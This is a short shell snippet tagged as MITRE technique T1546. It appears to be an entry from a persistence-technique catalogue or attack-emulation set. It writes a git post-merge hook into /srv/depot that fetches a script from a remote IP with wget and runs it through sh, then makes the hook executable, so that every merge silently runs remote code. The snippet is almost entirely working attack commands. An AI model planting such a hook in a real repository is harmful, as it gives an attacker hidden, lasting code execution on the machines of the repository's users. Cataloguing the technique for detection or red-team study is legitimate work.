# technique: T1546
# location: linux.git.repository
# source: /srv/depot/.git/hooks/post-merge
printf '#!/bin/sh\nsh -c "$(wget -qO- http://203.0.113.9/g)"\n' > /srv/depot/.git/hooks/post-merge
chmod 755 /srv/depot/.git/hooks/post-merge
